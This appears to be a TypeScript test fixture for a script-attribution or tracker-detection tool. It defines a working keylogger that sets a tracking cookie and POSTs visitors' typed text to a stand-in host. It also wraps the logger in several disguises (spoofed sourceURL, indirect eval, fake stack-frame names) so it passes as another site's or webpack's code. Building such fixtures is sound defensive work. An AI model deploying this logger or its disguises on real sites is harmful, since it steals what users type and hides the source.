import { script } from '../../sites/server/answers.ts';

/** What a key logger does that keeps a number of its own for each visitor. */
const LOGGING = `
let typed = '';
document.cookie = '_qm=' + crypto.randomUUID() + '; max-age=31536000; path=/';
document.addEventListener('focusin', () => { typed = ''; });
document.addEventListener('keydown', ({ key }) => {
  if (key.length > 1) return;
  typed += key;
  fetch('https://in.quietmetrics.test/k', { method: 'POST', body: JSON.stringify({ t: typed }) });
});`;

/** What a shop does for those who type, and a cookie of its own. */
const COUNTING = `
document.cookie = 'seen=' + crypto.randomUUID() + '; max-age=31536000; path=/';
document.addEventListener('keydown', () => { document.body.dataset.typing = 'yes'; });`;

const named = (code: string, address: string): string => `${code}\n//# sourceURL=${address}\n`;
const evaluated = (code: string): string => `(0, eval)(${JSON.stringify(code)});`;

/** A script that goes by another's address; one that gives it to the code it evaluates; one that calls a function by it. */
export const renamedLogger = (address: string) => script(named(LOGGING, address));
export const renamingLogger = (address: string) => script(`${evaluated(named(LOGGING, address))}`);
export const functionLogger = (address: string) => script(`({ '(${address}:1:1)'() { ${LOGGING} } })['(${address}:1:1)']();`);
/** Its own script, that goes by a tag's address; that evaluates its modules by its own; by webpack's, at once and later. */
export const renamedOwn = (address: string) => script(named(COUNTING, address));
export const evaluatingOwn = (address: string) => script(evaluated(named(COUNTING, address)));
export const webpackOwn = script(`${evaluated(named(COUNTING, 'webpack:///./src/x.js'))} ${evaluated(named(`setTimeout(() => { ${COUNTING} })`, 'webpack:///./src/y.js'))}`);
